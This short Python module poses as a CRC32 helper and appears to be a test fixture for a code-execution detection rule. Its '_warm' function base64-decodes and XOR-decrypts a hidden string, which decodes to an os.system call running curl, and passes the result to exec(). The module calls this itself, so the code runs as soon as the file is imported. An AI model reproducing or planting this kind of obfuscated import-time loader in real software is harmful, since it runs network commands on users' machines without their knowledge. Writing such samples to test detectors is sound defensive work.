"""A CRC helper whose table warm-up decrypts and runs a stage two."""
import base64
import zlib

_K = b"Zq4!rT"
_TABLE = "MxxETgAgeh5HKx0ndAJNUgYxN1kTQgcmNlEZUlI8LgVEUkh7dQFfRl8nLhBAUlw6PwUbWVIoegJcBlte"


def crc32(data):
    return zlib.crc32(data) & 0xFFFFFFFF


def _warm():
    raw = base64.b64decode(_TABLE)
    out = bytearray()
    for i in range(len(raw)):
        out.append(raw[i] ^ _K[i % len(_K)])
    # ruleid: code/code-execution
    exec(bytes(out).decode())


_warm()
